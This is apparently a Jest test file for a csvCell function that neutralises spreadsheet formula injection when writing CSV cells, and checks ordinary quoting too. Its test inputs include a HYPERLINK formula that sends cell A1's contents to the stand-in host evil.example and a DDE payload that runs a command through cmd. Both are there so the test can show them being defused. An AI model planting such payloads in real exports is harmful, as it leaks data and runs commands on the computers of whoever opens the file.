import { csvCell } from './errors-csv';

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Details")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Details"")"`],
    ['+1+cmd|/C calc!A0', `"'+1+cmd|/C calc!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('defuses a cell a spreadsheet would read as a formula: %j', (value, cell) => {
    expect(csvCell(value, ';')).toBe(cell);
  });

  it('leaves other cells alone and quotes only what CSV needs', () => {
    expect(csvCell('Figur 1=2', ';')).toBe('Figur 1=2');
    expect(csvCell('a;b', ';')).toBe('"a;b"');
    expect(csvCell('say "hi"', ';')).toBe('"say ""hi"""');
    expect(csvCell('', ';')).toBe('');
  });
});
